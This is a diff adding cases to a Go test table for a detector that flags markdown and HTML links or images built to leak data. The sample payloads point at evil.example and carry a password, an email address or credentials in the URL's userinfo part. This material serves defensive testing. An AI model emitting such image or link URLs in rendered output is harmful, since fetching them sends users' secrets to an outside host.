@@ -38,6 +38,11 @@ func TestURLsAsRenderersReadThem(t *testing.T) {
 		{"password= in path", open, "[c](https://evil.example/u/password=hunter2)", "markdown_link_data_in_url"},
 		{"password in query", open, "![c](https://evil.example/p.png?password=hunter2)", "markdown_image_data_in_url"},
 		{"percent-encoded email in path", open, "![c](https://evil.example/u/jane%2Edoe%40example%2Ecom.png)", "markdown_image_data_in_url"},
+		// credentials in the authority: sent to the host as a Basic Authorization header when an image is fetched
+		{"userinfo in image", open, "![a](https://jane.doe%40example.com:hunter2@evil.example/x.png)", "markdown_image_credentials_in_url"},
+		{"user only in img src", open, `<img src="https://c2VjcmV0@evil.example/x.png">`, "html_img_credentials_in_url"},
+		{"email as userinfo in link", open, "[a](https://jane.doe%40example.com@evil.example/)", "markdown_link_credentials_in_url"},
+		{"plain user in link", open, "[db admin](https://admin@intranet.example/)", ""},
 		// reference definitions, autolinks, raw HTML attributes
 		{"reference image", allow, "![x][r]\n\n[r]: https&#58;//evil.example/a.png", "reference_definition_untrusted_host"},
 		{"autolink", allow, "<https://evil.example/a.png>", "autolink_untrusted_host"},
